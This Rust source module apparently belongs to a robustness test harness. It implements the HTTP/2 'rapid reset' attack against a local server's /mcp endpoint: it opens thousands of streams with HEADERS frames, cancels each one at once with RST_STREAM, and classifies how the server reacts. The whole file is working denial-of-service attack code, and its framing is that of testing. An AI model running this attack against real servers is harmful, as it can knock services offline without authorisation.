//! The HTTP/2 "rapid reset" attack: opens thousands of streams, and resets each of them immediately.

use crate::{
    exchange::{Piece, Status, connect},
    run::now,
};
use std::{
    io::{ErrorKind, Read, Write},
    time::Duration,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The number of streams that are sent in one write.
const TOGETHER: u32 = 100;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Returns the bytes to send: the HTTP/2 preface and settings, then `HEADERS` and `RST_STREAM` for each stream.
fn pieces(count: usize) -> impl Iterator<Item = Piece> {
    // The header block in HPACK: method POST, scheme http, path `/mcp` and a host.
    let mut block = vec![0x83, 0x86, 0x04, 4];
    block.extend_from_slice(b"/mcp");
    block.extend_from_slice(&[0x01, 9]);
    block.extend_from_slice(b"127.0.0.1");
    let start = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &[])].concat();
    let streams = u32::try_from(count).unwrap_or(u32::MAX / 4);
    let batches = (0..streams.div_ceil(TOGETHER)).map(move |batch| {
        let numbers = batch * TOGETHER..((batch + 1) * TOGETHER).min(streams);
        let frames = numbers.flat_map(|number| {
            let stream = number * 2 + 1;
            // Flag 4 is END_HEADERS, and error code 8 is CANCEL.
            let mut both = frame(HEADERS, 4, stream, &block);
            both.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            both
        });
        (frames.collect(), Duration::ZERO)
    });
    std::iter::once((start, Duration::ZERO)).chain(batches)
}

/// Opens and resets the streams, and returns the reaction of the server. The server is allowed to close the connection,
/// or to keep it open and continue to work.
pub(super) fn rapid_reset(port: u16, count: usize, limit: Duration) -> Status {
    let Ok(mut stream) = connect(port) else { return Status::Closed };
    let end = now() + limit;
    // Limits the time of writes, because the server might stop reading.
    if stream.set_write_timeout(Some(limit)).is_err() {
        return Status::Closed;
    }
    for (bytes, _) in pieces(count) {
        match stream.write_all(&bytes) {
            Ok(()) => {}
            Err(error) if matches!(error.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
                return Status::Silent;
            }
            Err(_) => return Status::Closed,
        }
    }
    let mut seen = Vec::new();
    while let Some(left) = end.checked_duration_since(now()).filter(|left| !left.is_zero()) {
        let mut buffer = [0; 4096];
        let quiet = left.min(Duration::from_secs(2));
        match stream.set_read_timeout(Some(quiet)).and_then(|()| stream.read(&mut buffer)) {
            Ok(0) => return Status::Closed,
            Ok(count) => seen.extend_from_slice(&buffer[..count]),
            Err(error) if matches!(error.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
                // The connection is open, but the server sends nothing: it survived the attack, or it does not support
                // HTTP/2 and waits for more.
                return if seen.is_empty() { Status::Silent } else { spoken(&seen) };
            }
            Err(_) => return Status::Closed,
        }
    }
    spoken(&seen)
}

/// Returns the status for the bytes that a server sent: the status of an HTTP/1.1 reply, or `Closed` if they contain a
/// `GOAWAY` frame. Otherwise the server has kept the HTTP/2 connection open, which counts as 200.
fn spoken(mut bytes: &[u8]) -> Status {
    if let Some(status) = bytes.strip_prefix(b"HTTP/1.1 ").and_then(|rest| rest.get(..3)) {
        let status = std::str::from_utf8(status).ok().and_then(|status| status.parse().ok());
        return status.map_or(Status::Closed, Status::Of);
    }
    while bytes.len() >= 9 {
        if bytes[3] == GOAWAY {
            return Status::Closed;
        }
        let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]);
        let next = usize::try_from(length).unwrap_or(usize::MAX).saturating_add(9);
        bytes = bytes.get(next..).unwrap_or_default();
    }
    Status::Of(200)
}
